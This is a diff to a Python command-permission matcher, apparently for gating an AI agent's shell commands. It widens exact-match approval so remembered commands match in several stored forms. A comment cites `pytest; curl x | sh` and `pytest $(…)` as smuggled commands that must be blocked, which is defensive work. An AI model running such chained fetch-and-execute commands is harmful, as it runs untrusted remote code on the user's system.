@@ -15,6 +15,7 @@ not let `pytest; curl x | sh` or `pytest $(…)` through.
 from __future__ import annotations
 
 import fnmatch
+import glob
 import re
 from collections.abc import Callable
 from functools import lru_cache
@@ -73,7 +74,7 @@ def _command_matches(pattern: str, context: CallContext, *, deny: bool) -> bool:
     command, analysis = context.command, context.analysis
     if command is None or analysis is None:
         return False
-    if pattern == command:
+    if pattern in {command, exact_pattern(command), glob.escape(command)}:
         return True
     matcher = compile_value_pattern(pattern)
     if deny:
@@ -97,5 +98,10 @@ def first_matching_rule(
 
 
 def exact_pattern(value: str) -> str:
-    """A PATTERN matching exactly `value` (what "approve and remember" stores)."""
+    """A PATTERN matching exactly `value`, with no wildcard widening it.
+
+    For "approve and remember": a `command` stored as this (or as the plain command, or
+    as `glob.escape(command)`) allows that exact command again, even one that cannot
+    be analysed.
+    """
     return "re:" + re.escape(value)
